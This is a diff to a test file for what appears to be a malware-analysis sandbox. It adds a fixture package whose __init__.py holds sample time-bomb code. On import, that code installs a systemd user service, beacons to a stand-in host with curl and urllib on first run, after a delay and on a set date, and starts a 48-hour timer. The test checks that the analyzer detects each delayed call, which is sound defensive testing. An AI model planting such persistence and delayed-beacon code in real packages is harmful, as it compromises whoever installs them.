@@ -9,7 +9,7 @@ import pytest
 from biopsy.model.behaviour import Behaviour
 from biopsy.model.release import Tree, TreeFile
 from biopsy.model.run import Outcome, Phase, Run, Status, Watch
-from biopsy.pipeline import differing, waiting
+from biopsy.pipeline import Options, analyze, differing, waiting
 
 PLAN = (
     Phase("install", "npm.mjs", ("install", "--budget", "170"), 180.0, installs=True),
@@ -105,3 +105,46 @@ def test_what_came_of_a_second_go_is_no_matter_of_machines() -> None:
     )
     assert different(laptop, run_of("ci")) == []
     assert different(replace(laptop, behaviours=laptop.behaviours[:1]), run_of("ci")) != []
+
+
+BOMB = """
+import datetime, os, subprocess, threading, time, urllib.request
+def say(what):
+    urllib.request.urlopen("https://late.example/" + what).read()
+units = os.path.expanduser("~/.config/systemd/user")
+os.makedirs(units, exist_ok=True)
+with open(units + "/x.service", "w") as file:
+    file.write("[Service]\\nExecStart=/bin/sh -c 'sleep 600; curl -s https://late.example/unit'\\n")
+stamp = os.path.expanduser("~/.cache/stamp")
+if not os.path.exists(stamp):
+    open(stamp, "w").close()
+    say("first")
+elif time.time() - os.stat(stamp).st_mtime > 2 * 86400:
+    say("again")
+if datetime.date.today() == datetime.date(2031, 4, 1):
+    say("bomb")
+thread = threading.Timer(48 * 3600, say, ["later"])
+thread.daemon = True
+thread.start()
+"""
+
+
+@pytest.mark.sandbox
+def test_time_days_traces_and_units_all_bring_out_what_waited_for_them(tmp_path: Path, home: Path) -> None:
+    package = tmp_path / "sim"
+    (package / "sim_bomb").mkdir(parents=True)
+    (package / "sim_bomb" / "__init__.py").write_text(BOMB)
+    setup = "from setuptools import setup\nsetup(name='sim-bomb', version='1.0', packages=['sim_bomb'])\n"
+    (package / "setup.py").write_text(setup)
+    chosen = Options(home=home, profiles=("laptop",))
+    (analysis,) = analyze(str(package), chosen, lambda _text, _done: None)
+    seen = {f"{b.kind} {b.value}" for b in analysis.dossier.behaviours}
+    assert {
+        "differs.clock 48h net.http GET https://late.example/later",
+        "differs.clock 10m net.http GET https://late.example/unit",
+        "differs.again 3d net.http GET https://late.example/again",
+        "differs.again 2031-04-01 net.http GET https://late.example/bomb",
+        "differs.once 3d net.http GET https://late.example/first",
+        "evasion.sleep 172800",
+    } <= seen
+    assert {"evasion/acts-after-a-wait", "evasion/acts-on-a-date"} <= {f.rule for f in analysis.findings}
